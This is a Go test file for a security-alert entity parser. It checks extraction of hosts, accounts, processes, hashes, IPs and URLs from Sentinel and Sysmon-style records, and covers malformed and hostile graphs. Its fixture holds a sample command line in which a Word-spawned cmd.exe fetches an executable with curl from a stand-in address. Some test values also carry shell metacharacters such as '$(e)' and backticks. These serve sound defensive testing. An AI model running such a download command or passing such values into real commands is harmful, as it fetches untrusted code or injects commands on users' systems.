package parse

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/aluskort/aluskort/internal/alert"
	"github.com/aluskort/aluskort/internal/ingest"
)

// graphText is an entity graph as Sentinel writes it: inline objects, references forwards,
// backwards and in a circle, both spellings of Type.
const graphText = `[
 {"$id":"1","HostName":"ws-0141","DnsDomain":"corp.example.com","OSFamily":"Windows","OSVersion":"22H2","MdatpDeviceId":"` + sha1Hex + `","Type":"host"},
 {"$id":"2","Name":"dana.roth","NTDomain":"CORP","UPNSuffix":"example.com","AadUserId":"a2d0f7c2-b0a0-43bd-bce0-27d8ae3be4d0","Sid":"S-1-5-21-1-2-3-1141","IsDomainJoined":true,"Type":"Account"},
 {"$id":"3","ProcessId":"5228","CommandLine":"cmd.exe /c \"curl http://203.0.113.77/u.exe | more\"","CreationTimeUtc":"2025-06-12T10:01:43Z",
  "ImageFile":{"$ref":"5"},"ParentProcess":{"$id":"4","ProcessId":"4100","ImageFile":{"$id":"8","Directory":"C:\\Program Files (x86)\\Office","Name":"winword.exe","Type":"file"},"ParentProcess":{"$ref":"3"},"Type":"process"},"Type":"process"},
 {"$id":"5","Directory":"C:\\Windows\\System32","Name":"cmd.exe","FileHashes":[{"$id":"6","Algorithm":"SHA256","Value":"` + sha256Hex + `","Type":"filehash"},{"$ref":"7"}],"Type":"file"},
 {"$id":"7","Algorithm":"MD5","Value":"` + md5Hex + `","Type":"filehash"},
 {"$id":"9","Address":"203.0.113.77","Location":{"CountryCode":"NL","City":"Delft","Asn":64500,"Carrier":"Example Net"},"Type":"ip"},
 {"$id":"10","Url":"http://203.0.113.77/u.exe?a=1&b=(2)","Type":"url"}
]`

// one parses a graph and returns entities as "type value".
func parseGraph(t *testing.T, raw string) alert.Entities {
	t.Helper()
	return New(nil).Parse(&alert.Alert{Source: "sentinel", EntitiesRaw: raw})
}

func values(list []alert.Entity) []string {
	var out []string
	for _, e := range list {
		out = append(out, string(e.Type)+" "+e.Value)
	}
	return out
}

func find(t *testing.T, list []alert.Entity, typ alert.EntityType, value string) alert.Entity {
	t.Helper()
	for _, e := range list {
		if e.Type == typ && e.Value == value {
			return e
		}
	}
	t.Fatalf("no %s %q among %q", typ, value, values(list))
	return alert.Entity{}
}

func TestParseGraph(t *testing.T) {
	got := parseGraph(t, graphText)
	want := []string{
		"host ws-0141.corp.example.com", "account dana.roth@example.com", "process cmd.exe",
		"process winword.exe", `file C:\Program Files (x86)\Office\winword.exe`,
		`file C:\Windows\System32\cmd.exe`, "filehash " + sha256Hex, "filehash " + md5Hex,
		"ip 203.0.113.77", "url http://203.0.113.77/u.exe?a=1&b=(2)",
	}
	if diff := cmp.Diff(want, values(got.List)); diff != "" {
		t.Errorf("entities (-want +got):\n%s", diff)
	}
	if len(got.Errors) > 0 {
		t.Errorf("errors: %q", got.Errors)
	}
	for _, e := range got.List {
		if e.Confidence != 1 || e.SourceID == "" || e.Ref != "/Entities#"+e.SourceID {
			t.Errorf("%+v: want confidence 1 and a reference to its id", e)
		}
	}
}

func TestParseGraphProperties(t *testing.T) {
	list := parseGraph(t, graphText).List
	for _, c := range []struct {
		typ   alert.EntityType
		value string
		want  map[string]string
	}{
		{alert.Account, "dana.roth@example.com", map[string]string{
			"name": "dana.roth", "upn_suffix": "example.com", "sid": "S-1-5-21-1-2-3-1141", "nt_domain": "CORP",
			"nt_name": `CORP\dana.roth`, "is_domain_joined": "true", "aad_user_id": "a2d0f7c2-b0a0-43bd-bce0-27d8ae3be4d0"}},
		{alert.Host, "ws-0141.corp.example.com", map[string]string{
			"dns_domain": "corp.example.com", "os_family": "Windows", "os_version": "22H2", "edr_device_id": sha1Hex}},
		{alert.Process, "cmd.exe", map[string]string{
			"process_id": "5228", "command_line": `cmd.exe /c "curl http://203.0.113.77/u.exe | more"`, "image_name": "cmd.exe",
			"image_path": `C:\Windows\System32\cmd.exe`, "creation_time": "2025-06-12T10:01:43Z",
			"parent_process_id": "4100", "parent_image_name": "winword.exe"}},
		{alert.IP, "203.0.113.77", map[string]string{
			"geo_country": "NL", "geo_city": "Delft", "asn": "64500", "carrier": "Example Net"}},
		{alert.File, `C:\Windows\System32\cmd.exe`, map[string]string{"sha256": sha256Hex, "md5": md5Hex}},
		{alert.FileHash, md5Hex, map[string]string{"algorithm": "md5"}},
	} {
		if diff := cmp.Diff(c.want, find(t, list, c.typ, c.value).Properties); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.typ, diff)
		}
	}
	if r := find(t, list, alert.Process, "winword.exe").Role; r != alert.RoleParent {
		t.Errorf("role of the parent process is %q", r)
	}
}

func TestParseEntityTypes(t *testing.T) {
	for _, c := range []struct{ name, entity, want, err string }{
		{"account by directory id", `"Type":"account","Name":"x","AadUserId":"id-1"`, "account id-1", ""},
		{"account by name", `"Type":"account","Name":"SYSTEM","NTDomain":"NT AUTHORITY"`, "account SYSTEM", ""},
		{"account with domain in the name", `"Type":"account","Name":"CORP\\x"`, "account x", ""},
		{"account whose name is a UPN", `"Type":"account","Name":"x@example.com","UPNSuffix":"example.com"`, "account x@example.com", ""},
		{"machine account", `"Type":"account","Name":"WS01$"`, "account WS01$", ""},
		{"account by SID", `"Type":"account","Sid":"S-1-5-18"`, "account S-1-5-18", "account without name"},
		{"account without anything", `"Type":"account"`, "", "account without name"},
		{"host by NetBIOS name", `"Type":"host","NetBiosName":"WS01"`, "host WS01", ""},
		{"host that repeats its domain", `"Type":"host","HostName":"a.example.com","DnsDomain":"example.com"`, "host a.example.com", ""},
		{"host without name", `"Type":"host","OSFamily":"Linux"`, "", "host without a name"},
		{"host with a long label", `"Type":"host","HostName":"` + strings.Repeat("a", 65) + `"`, "", "not valid or too long"},
		{"ip v6", `"Type":"ip","Address":"2001:DB8:0::1"`, "ip 2001:db8::1", ""},
		{"ip not valid", `"Type":"ip","Address":"300.1.1.1"`, "", "address 300.1.1.1 is not valid"},
		{"file of Unix", `"Type":"file","Directory":"/usr/bin/","Name":"id"`, "file /usr/bin/id", ""},
		{"file without directory", `"Type":"file","Name":"a.txt"`, "file a.txt", ""},
		{"file with doubled backslashes", `"Type":"file","Directory":"C:\\\\x\\\\","Name":"a"`, `file C:\x\a`, ""},
		{"file without name", `"Type":"file","Directory":"/x"`, "", "file without a name"},
		{"process by id", `"Type":"process","ProcessId":"7"`, "process 7", ""},
		{"process by numeric id", `"Type":"process","ProcessId":7`, "process 7", ""},
		{"process unknown", `"Type":"process"`, "process unknown", ""},
		{"url", `"Type":"url","Url":"https://example.com/?a=1;b[]=2|x"`, "url https://example.com/?a=1;b[]=2x", ""},
		{"url without address", `"Type":"url"`, "", "url without"},
		{"dns", `"Type":"dns","DomainName":"evil.example.com"`, "dns evil.example.com", ""},
		{"dns by its other name", `"Type":"DnsResolution","DomainName":"evil.example.com"`, "dns evil.example.com", ""},
		{"filehash in capitals", `"Type":"filehash","Algorithm":"SHA1","Value":"` + strings.ToUpper(sha1Hex) + `"`, "filehash " + sha1Hex, ""},
		{"filehash of the wrong length", `"Type":"filehash","Value":"abc"`, "", "hash is no MD5"},
		{"filehash with the wrong algorithm", `"Type":"filehash","Algorithm":"MD5","Value":"` + sha1Hex + `"`, "filehash " + sha1Hex, "not of MD5"},
		{"mailbox", `"Type":"mailbox","MailboxPrimaryAddress":"a@example.com"`, "mailbox a@example.com", ""},
		{"mail message", `"Type":"mailMessage","NetworkMessageId":"n-1","Subject":"hi"`, "mailmessage n-1", ""},
		{"registry key", `"Type":"registry-key","Hive":"HKEY_LOCAL_MACHINE","Key":"SOFTWARE\\x"`, `registry-key HKEY_LOCAL_MACHINE\SOFTWARE\x`, ""},
		{"registry value", `"Type":"registry-value","Name":"v"`, "registry-value v", ""},
		{"security group", `"Type":"security-group","DistinguishedName":"CN=Admins,DC=example"`, "security-group CN=Admins,DC=example", ""},
		{"cloud application", `"Type":"cloud-application","AppId":11161,"Name":"Office 365"`, "cloud-application Office 365", ""},
		{"malware", `"Type":"malware","Name":"Trojan:Win32/Example"`, "malware Trojan:Win32/Example", ""},
		{"mail cluster is kept out", `"Type":"mailCluster","Query":"x"`, "", ""},
		{"logon session is kept out", `"Type":"cloud-logon-session","SessionId":"x"`, "", ""},
		{"Azure resource is kept out", `"Type":"azure-resource","ResourceId":"/x"`, "", ""},
		{"unknown type", `"Type":"teapot"`, "", `unknown entity type "teapot"`},
		{"management interface", `"kind":"Account","properties":{"accountName":"x","upnSuffix":"example.com"}`, "account x@example.com", ""},
		{"metacharacters", `"Type":"malware","Name":"a;b|c&d$(e)` + "`f`" + `<g>\"h\""`, "malware abcdefgh", ""},
		{"invisible characters", `"Type":"malware","Name":"a\u200bb\u202ec\u0007d\ufeff"`, "malware abcd", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := parseGraph(t, `[{"$id":"1",`+c.entity+`}]`)
			if v := strings.Join(values(got.List), " | "); v != c.want {
				t.Errorf("entities %q, want %q", v, c.want)
			}
			errs := strings.Join(got.Errors, "\n")
			if c.err == "" && errs != "" || !strings.Contains(errs, c.err) {
				t.Errorf("errors %q, want one with %q", errs, c.err)
			}
		})
	}
}

func TestParseMergesEqualEntities(t *testing.T) {
	got := parseGraph(t, `[{"$id":"1","Type":"process","ProcessId":"7","CommandLine":"a","ImageFile":{"Name":"x.exe"}},
		{"$id":"2","Type":"process","ProcessId":"8","CommandLine":"b","ImageFile":{"Name":"X.EXE"}},
		{"$id":"3","Type":"ip","Address":"203.0.113.1"},{"$id":"4","Type":"ip","Address":"203.0.113.1","Location":{"City":"Delft"}}]`)
	want := []string{"process x.exe", "file x.exe", "ip 203.0.113.1"}
	if diff := cmp.Diff(want, values(got.List)); diff != "" {
		t.Fatal(diff)
	}
	p := got.List[0].Properties
	if p["command_line"] != "a" || p["command_line.2"] != "b" || p["process_id.2"] != "8" {
		t.Errorf("both processes must be kept: %v", p)
	}
	if got.List[2].Properties["geo_city"] != "Delft" || got.List[2].SourceID != "3" {
		t.Errorf("properties must be merged: %+v", got.List[2])
	}
}

func TestParseMailMessage(t *testing.T) {
	got := parseGraph(t, `[{"$id":"1","Type":"mailMessage","NetworkMessageId":"n-1","Sender":"Eve@example.com","SenderIP":"198.51.100.9",
		"Recipient":"dana@example.com","Urls":["http://evil.example.com/x"],"Subject":"Hi; there"}]`)
	if len(got.List) != 1 || got.List[0].Properties["sender_ip"] != "198.51.100.9" || got.List[0].Properties["subject"] != "Hi there" {
		t.Errorf("entities %+v", got.List)
	}
	var ind []string
	for _, i := range got.Indicators {
		ind = append(ind, fmt.Sprintf("%s %s %v", i.Type, i.Value, i.Confidence))
	}
	want := []string{"email eve@example.com 1", "ipv4 198.51.100.9 1", "url http://evil.example.com/x 1", "domain evil.example.com 1"}
	if diff := cmp.Diff(want, ind); diff != "" {
		t.Error(diff)
	}
}

func TestParseHostileGraphs(t *testing.T) {
	var many strings.Builder
	many.WriteString("[")
	for i := range 100_000 {
		fmt.Fprintf(&many, `{"$id":"%d","Type":"ip","Address":"11.%d.%d.%d"},`, i, i>>16&255, i>>8&255, i&255)
	}
	many.WriteString(`{"Type":"ip","Address":"11.0.0.1"}]`)
	deep := strings.Repeat(`[`, 9_000) + strings.Repeat(`]`, 9_000)
	for _, c := range []struct{ name, raw, err string }{
		{"self reference", `[{"$id":"1","$ref":"1","Type":"host"},{"$id":"2","Type":"process","ImageFile":{"$ref":"2"},"ParentProcess":{"$ref":"2"}}]`, ""},
		{"circle", `[{"$id":"1","$ref":"2"},{"$id":"2","$ref":"1"},{"$id":"3","Type":"process","ImageFile":{"$ref":"1"}}]`, ""},
		{"100,000 entities", many.String(), "the rest is left out"},
		{"9,000 levels", `[{"Type":"host","HostName":"a","x":` + deep + `}]`, "nested deeper"},
		{"100,000 levels", strings.Repeat(`[`, 100_000), "/Entities"},
		{"cut off", `[{"$id":"1","Type":"ip","Address":"203.0.113.9"},{"$id":"2","Type":"ho`, "/Entities"},
		{"duplicate keys", `[{"Type":"ip","Type":"host","Address":"203.0.113.9","Address":"203.0.113.8"}]`, ""},
		{"bad encoding", "[{\"Type\":\"malware\",\"Name\":\"a\xff\xfeb\"}]", ""},
		{"wrong kinds", `[{"Type":{"a":1},"Name":[]},{"Type":"host","HostName":{"x":1}},{"Type":"ip","Address":null,"Location":[1]},7,null,"x"]`, "host without a name"},
		{"more data", `[] []`, "more data"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := parseGraph(t, c.raw)
			if errs := strings.Join(got.Errors, "\n"); !strings.Contains(errs, c.err) {
				t.Errorf("errors %q, want one with %q", errs, c.err)
			}
			if len(got.List) > maxEntities || len(got.Indicators) > maxIndicators || len(got.Errors) > maxErrors+3 {
				t.Errorf("%d entities, %d indicators, %d errors", len(got.List), len(got.Indicators), len(got.Errors))
			}
		})
	}
	if got := parseGraph(t, many.String()); len(got.List) != maxEntities {
		t.Errorf("%d entities of many, want %d", len(got.List), maxEntities)
	}
	if got := parseGraph(t, `[{"$id":"1","Type":"ip","Address":"203.0.113.9"},{"$id":"2","Type":"ho`); len(got.List) != 1 {
		t.Errorf("what stands before the cut must count: %q", values(got.List))
	}
}

func TestParseCutsLongValuesAtARune(t *testing.T) {
	for _, unit := range []string{"a", "é", "語", "😀"} {
		got := parseGraph(t, `[{"Type":"malware","Name":"`+strings.Repeat(unit, maxValue+100)+`"}]`)
		v := got.List[0].Value
		if !utf8.ValidString(v) || utf8.RuneCountInString(v) != maxValue {
			t.Errorf("%q: %d characters, valid %v", unit, utf8.RuneCountInString(v), utf8.ValidString(v))
		}
	}
}

func TestParseDescriptor(t *testing.T) {
	a := sysmonAlert(t)
	got := New(describeSysmon).Parse(a)
	want := []string{
		"host WS-0141", "ip 10.20.30.41", `process cmd.exe`, `account CORP\dana.roth`, "filehash " + sha1Hex, "filehash " + md5Hex,
		"filehash " + sha256Hex, "process winword.exe",
	}
	var stated, scanned []string
	for _, e := range got.List {
		if e.Confidence == 1 {
			stated = append(stated, string(e.Type)+" "+e.Value)
		} else {
			scanned = append(scanned, string(e.Type)+" "+e.Value)
		}
	}
	if diff := cmp.Diff(want, stated); diff != "" {
		t.Errorf("stated (-want +got):\n%s", diff)
	}
	// 203.0.113.77 is for documentation and the rest is under example.com.
	if len(scanned) != 0 {
		t.Errorf("found: %q", scanned)
	}
	host := find(t, got.List, alert.Host, "WS-0141")
	if host.Role != alert.RoleDevice || !host.Principal || host.Ref != "/agent/name" {
		t.Errorf("host %+v", host)
	}
	if find(t, got.List, alert.IP, "10.20.30.41").Principal {
		t.Error("the descriptor's principals must not be added to")
	}
	if p := find(t, got.List, alert.Process, "cmd.exe").Properties["image_path"]; p != `C:\Windows\System32\cmd.exe` {
		t.Errorf("image path %q", p)
	}
	if len(got.Errors) > 0 {
		t.Errorf("errors %q", got.Errors)
	}
}

func TestParseCountsDocumentationWhenAsked(t *testing.T) {
	got := New(describeSysmon, WithWarnings(NewWarningLists(CountDocumentation()))).Parse(sysmonAlert(t))
	url := find(t, got.List, alert.URL, "http://203.0.113.77/u.exe")
	if url.Confidence != 0.8 || url.Principal {
		t.Errorf("url %+v", url)
	}
	i := slices.IndexFunc(got.Indicators, func(i alert.Indicator) bool { return i.Value == "203.0.113.77" })
	if i < 0 || got.Indicators[i].Benign != "" || got.Indicators[i].Confidence != 0.8 {
		t.Errorf("indicators %+v", got.Indicators)
	}
}

// TestParseNoFalseFinds: versions, import hashes and identifiers of the record are none.
func TestParseNoFalseFinds(t *testing.T) {
	got := New(describeSysmon).Parse(sysmonAlert(t))
	for _, i := range got.Indicators {
		if i.Value == "00000000000000000000000000000000" || strings.HasPrefix(i.Value, "10.0.26100") ||
			i.Type == alert.IndicatorDomain && i.Value != "ws-0141.corp.example.com" {
			t.Errorf("unexpected indicator %+v", i)
		}
		if len(i.Refs) == 0 {
			t.Errorf("indicator %+v does not say where it stands", i)
		}
	}
}

func flat(t *testing.T, record string) alert.Fields {
	t.Helper()
	var f alert.Flattener
	fields, err := f.Flatten([]byte(record))
	if err != nil {
		t.Fatal(err)
	}
	return fields
}

func TestParseEntityPaths(t *testing.T) {
	for _, c := range []struct{ name, record, path, typ, domain, join, want string }{
		{"account and domain", `{"u":"dana","d":"CORP"}`, "u", "account", "d", `\`, `account CORP\dana`},
		{"account that has its domain", `{"u":"CORP\\dana","d":"X"}`, "u", "account", "d", `\`, `account CORP\dana`},
		{"account with an absent domain", `{"u":"dana","d":"-"}`, "u", "account", "d", `\`, `account dana`},
		{"principal name", `{"u":"dana","d":"example.com"}`, "u", "account", "d", "@", `account dana@example.com`},
		{"doubled backslashes", `{"u":"CORP\\\\dana"}`, "u", "account", "", "", `account CORP\dana`},
		{"host and domain", `{"h":"ws1","d":"corp.example.com"}`, "h", "host", "d", ".", "host ws1.corp.example.com"},
		{"host that is an address", `{"h":"10.1.2.3"}`, "h", "host", "", "", "ip 10.1.2.3"},
		{"address that is a host", `{"h":"ws1"}`, "h", "ip", "", "", "host ws1"},
		{"address with port", `{"h":"10.1.2.3:50122"}`, "h", "ip", "", "", "ip 10.1.2.3"},
		{"address mapped to v6", `{"h":"::ffff:10.1.2.3"}`, "h", "ip", "", "", "ip 10.1.2.3"},
		{"forwarded addresses", `{"h":"10.1.2.3, 10.1.2.4"}`, "h", "ip", "", "", "ip 10.1.2.3 | ip 10.1.2.4"},
		{"file and directory", `{"f":"a.txt","d":"C:\\x\\"}`, "f", "file", "d", `\`, `file C:\x\a.txt`},
		{"network share", `{"f":"\\\\\\\\srv\\\\share\\\\a"}`, "f", "file", "", "", `file \\srv\share\a`},
		{"domain", `{"q":"Evil.Example.com."}`, "q", "dns", "", "", "dns evil.example.com"},
		{"path of a request", `{"u":"/index.php"}`, "u", "url", "", "", ""},
		{"array", `{"h":["ws1","ws2"]}`, "h", "host", "", "", "host ws1 | host ws2"},
		{"nearest domain", `{"l":[{"u":"a","d":"X"},{"u":"b","d":"Y"}]}`, "l.u", "account", "l.d", `\`, `account X\a | account Y\b`},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := &ingest.Descriptor{Entities: []ingest.EntityPath{{
				Path: c.path, Type: alert.EntityType(c.typ), Domain: c.domain, Join: c.join}}, Text: []string{"nothing"}}
			got := New(func(string) *ingest.Descriptor { return d }).Parse(&alert.Alert{EntitiesRaw: "[]", Fields: flat(t, c.record)})
			if v := strings.Join(values(got.List), " | "); v != c.want {
				t.Errorf("got %q, want %q (errors %q)", v, c.want, got.Errors)
			}
		})
	}
	for _, nothing := range []string{"-", "N/A", "", "::", "0.0.0.0", "LOCAL", " "} {
		d := &ingest.Descriptor{Entities: []ingest.EntityPath{{Path: "x", Type: alert.IP}}, Text: []string{"nothing"}}
		got := New(func(string) *ingest.Descriptor { return d }).Parse(&alert.Alert{EntitiesRaw: "[]", Fields: flat(t, `{"x":"`+nothing+`"}`)})
		if len(got.List) > 0 || len(got.Errors) > 0 {
			t.Errorf("%q became %q %q", nothing, values(got.List), got.Errors)
		}
	}
}

func TestParseTextAndSkip(t *testing.T) {
	d := &ingest.Descriptor{Text: []string{"log", "data.*"}, Skip: []string{"data.docs"}}
	fields := flat(t, `{"log":"11.1.1.1","data":{"x":"11.1.1.2","docs":{"y":"11.1.1.3"},"appVersion":"11.1.1.5"},"other":"11.1.1.4"}`)
	got := New(func(string) *ingest.Descriptor { return d }).Parse(&alert.Alert{EntitiesRaw: "[]", Fields: fields, Title: "via 11.1.1.6"})
	want := []string{"ip 11.1.1.1", "ip 11.1.1.2", "ip 11.1.1.6"}
	if diff := cmp.Diff(want, values(got.List)); diff != "" {
		t.Error(diff)
	}
}

func TestParseFallback(t *testing.T) {
	got := New(nil).Parse(&alert.Alert{
		EntitiesRaw: "host ws1 reached 11.1.1.1",
		Fields:      flat(t, `{"msg":"reached 11.1.1.1 and evil[.]shop, see CVE-2021-44228"}`),
	})
	if diff := cmp.Diff([]string{"ip 11.1.1.1", "dns evil.shop"}, values(got.List)); diff != "" {
		t.Error(diff)
	}
	if len(got.Errors) != 1 || !strings.Contains(got.Errors[0], "not a JSON array") {
		t.Errorf("errors %q", got.Errors)
	}
	if got.List[0].Confidence != 0.7 || got.List[1].Confidence != 0.6 {
		t.Errorf("confidences %v %v", got.List[0].Confidence, got.List[1].Confidence)
	}
}

func TestParsePrincipalFallback(t *testing.T) {
	for _, c := range []struct{ name, raw, want string }{
		{"host, account, remote address", `[{"Type":"ip","Address":"10.0.0.1"},{"Type":"ip","Address":"11.0.0.1"},{"Type":"account","Name":"a"},
			{"Type":"account","Name":"b"},{"Type":"host","HostName":"h"},{"Type":"host","HostName":"i"}]`, "ip 11.0.0.1 | account a | host h"},
		{"local address only", `[{"Type":"ip","Address":"10.0.0.1"}]`, "ip 10.0.0.1"},
		{"none of them", `[{"Type":"url","Url":"http://a.shop/x"},{"Type":"malware","Name":"m"}]`, "url http://a.shop/x"},
		{"nothing", `[]`, ""},
	} {
		var marked []alert.Entity
		for _, e := range parseGraph(t, c.raw).List {
			if e.Principal {
				marked = append(marked, e)
			}
		}
		if v := strings.Join(values(marked), " | "); v != c.want {
			t.Errorf("%s: principal %q, want %q", c.name, v, c.want)
		}
	}
}

func TestParseIndicatorLimit(t *testing.T) {
	var text strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&text, "11.1.%d.%d ", i>>8, i&255)
	}
	got := New(nil).Parse(&alert.Alert{EntitiesRaw: "[]", Title: text.String()})
	if len(got.Indicators) != maxIndicators || len(got.List) != maxEntities {
		t.Errorf("%d indicators, %d entities", len(got.Indicators), len(got.List))
	}
	if errs := strings.Join(got.Errors, "\n"); !strings.Contains(errs, "1000 indicators") || !strings.Contains(errs, "500 entities") {
		t.Errorf("errors %q", errs)
	}
}

// TestParseIsRepeatable: pooled memory carries nothing from one alert to the next.
func TestParseIsRepeatable(t *testing.T) {
	p := New(describeSysmon)
	a, b := sysmonAlert(t), &alert.Alert{Source: "x", EntitiesRaw: graphText}
	wantA, wantB := p.Parse(a), p.Parse(b)
	for range 5 {
		if diff := cmp.Diff(wantB, p.Parse(b)); diff != "" {
			t.Fatal(diff)
		}
		if diff := cmp.Diff(wantA, p.Parse(a)); diff != "" {
			t.Fatal(diff)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add(graphText)
	f.Add(`[{"$id":"1","$ref":"1"}]`)
	f.Add(`[{"Type":"process","ImageFile":{"$ref":"2"}},{"$id":"2","Type":"file","Name":"a"}]`)
	f.Add(`{"Type":"host"}`)
	f.Add("\ufeff[{\"Type\":\"mailMessage\",\"Urls\":[\"http://a\",{}],\"SenderIP\":7}]")
	p := New(nil)
	f.Fuzz(func(t *testing.T, raw string) {
		got := p.Parse(&alert.Alert{EntitiesRaw: raw})
		seen := make(map[string]bool)
		for _, e := range got.List {
			if e.Value == "" || !e.Type.Valid() || e.Confidence <= 0 || e.Confidence > 1 {
				t.Fatalf("entity %+v", e)
			}
			if !utf8.ValidString(e.Value) || utf8.RuneCountInString(e.Value) > maxValue+maxHost+1 {
				t.Fatalf("value %q of %s", e.Value, e.Type)
			}
			if seen[e.Key()] {
				t.Fatalf("%s twice", e.Key())
			}
			seen[e.Key()] = true
		}
		if len(got.List) > maxEntities || len(got.Indicators) > maxIndicators {
			t.Fatalf("%d entities, %d indicators", len(got.List), len(got.Indicators))
		}
	})
}

func TestParseConcurrently(t *testing.T) {
	p := New(describeSysmon)
	a, b := sysmonAlert(t), &alert.Alert{Source: "x", EntitiesRaw: graphText}
	wantA, wantB := New(describeSysmon).Parse(a), New(describeSysmon).Parse(b)
	var group sync.WaitGroup
	for range 8 {
		group.Go(func() {
			for range 50 {
				if !cmp.Equal(p.Parse(a), wantA) || !cmp.Equal(p.Parse(b), wantB) {
					t.Error("parsing side by side changed a result")
					return
				}
			}
		})
	}
	group.Wait()
}
